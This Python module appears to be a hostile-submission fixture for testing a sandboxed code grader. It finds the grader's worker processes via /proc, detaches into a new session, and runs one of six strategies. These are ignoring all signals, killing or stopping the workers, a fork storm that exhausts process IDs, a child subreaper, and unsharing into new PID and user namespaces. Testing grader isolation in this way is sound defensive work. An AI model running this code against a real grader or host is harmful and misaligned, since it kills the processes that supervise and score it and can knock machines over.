"""Detaches processes that heed no signal, by WAY, and ends those that would end them: the grader's workers above it."""

import ctypes
import os
import signal
import time

TIME = 60  # seconds that they live if they are let
LIBC = ctypes.CDLL(None)
TOLD, TELLS = os.pipe()  # from the detached process to the one that waits until the workers are dealt with
tried = False


def attack():
    global tried
    if tried:
        return
    tried = True
    workers = list(above())
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            WAYS[WAY](workers)  # noqa: F821
        os._exit(0)
    print("attack: detached", flush=True)
    os.close(TELLS)
    os.read(TOLD, 1)  # also ends if the detached process is ended, the only one that has the other side then
    time.sleep(0.1)


def above():
    """The processes of the grader's workers above this one, the nearest first; and, if ALL is set, its parent in the end."""
    pid = os.getppid()
    while pid > 1:
        with open(f"/proc/{pid}/cmdline", "rb") as file:
            command = file.read()
        if b"/sandboxed/" not in command:
            if ALL and b"multiprocessing" in command:  # noqa: F821  # no grader, but one of its processes
                yield pid
            return
        yield pid
        with open(f"/proc/{pid}/stat") as file:
            pid = int(file.read().rpartition(")")[2].split()[1])


def ignore_signals():
    for number in range(1, signal.NSIG):
        try:
            signal.signal(number, signal.SIG_IGN)
        except (OSError, ValueError):
            pass


def kill(workers, number=signal.SIGKILL):
    try:
        for pid in reversed(workers):
            os.kill(pid, number)
    finally:
        os.write(TELLS, b"!")


def all_above(workers):
    ignore_signals()
    kill(workers)
    time.sleep(TIME)


def the_holder(workers):
    ignore_signals()
    kill(workers[:1])
    time.sleep(TIME)


def stopped(workers):
    kill(workers[1:], signal.SIGSTOP)
    time.sleep(TIME)


def a_storm(workers):
    """Processes that are always others: each ends once it has started the next one."""
    kill(workers)
    end = time.monotonic() + TIME / 3  # which takes up the machine's process numbers
    for _ in range(4):
        if os.fork() == 0:
            while time.monotonic() < end:
                if os.fork():
                    os._exit(0)
                if hash(str(time.monotonic())) % 3 == 0:
                    os.setsid()
    os._exit(0)


def a_reaper(workers):
    """One that takes in orphans itself, and begins groups and sessions."""
    PR_SET_PDEATHSIG, PR_SET_CHILD_SUBREAPER = 1, 36
    ignore_signals()
    LIBC.prctl(PR_SET_PDEATHSIG, 0, 0, 0, 0)
    LIBC.prctl(PR_SET_CHILD_SUBREAPER, 1, 0, 0, 0)
    for _ in range(4):
        if os.fork() == 0:
            os.setpgid(0, 0)
            if os.fork():
                os._exit(0)
            os.setsid()
            break
    for pid in workers:
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
    os.write(TELLS, b"!")
    time.sleep(TIME)


def a_namespace(workers):
    """The first process of a namespace of processes of its own, if it may have one."""
    CLONE_NEWUSER, CLONE_NEWPID = 0x10000000, 0x20000000
    LIBC.unshare(CLONE_NEWUSER | CLONE_NEWPID)
    if os.fork() == 0:
        ignore_signals()
        time.sleep(TIME)
    kill(workers)
    time.sleep(TIME)


WAYS = {way.__name__: way for way in (all_above, the_holder, stopped, a_storm, a_reaper, a_namespace)}
